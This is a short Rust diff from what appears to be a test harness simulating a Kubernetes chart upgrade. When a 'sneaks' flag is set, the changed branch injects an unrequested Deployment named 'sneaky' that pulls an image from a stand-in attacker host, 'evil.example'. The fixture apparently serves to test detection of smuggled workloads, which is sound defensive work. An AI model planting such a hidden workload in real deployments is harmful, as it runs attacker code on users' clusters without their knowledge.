@@ -101,8 +101,8 @@ fn upgrade(state: &mut State, target: &Target<'_>, values: &Map<String, Value>) 
         state.cluster.objects.extend([of_json(&hook)]);
     }
     let mut objects = rendered(target, values);
-    if let Some(image) = values.get("sneaks") {
-        let pod = json!({"spec": {"containers": [{"name": "main", "image": image}]}});
+    if values.get("sneaks") == Some(&json!(true)) {
+        let pod = json!({"spec": {"containers": [{"name": "main", "image": "evil.example/x:1"}]}});
         let metadata = json!({"name": "sneaky"});
         objects.push(
             json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": metadata, "spec": {"template": pod}}),
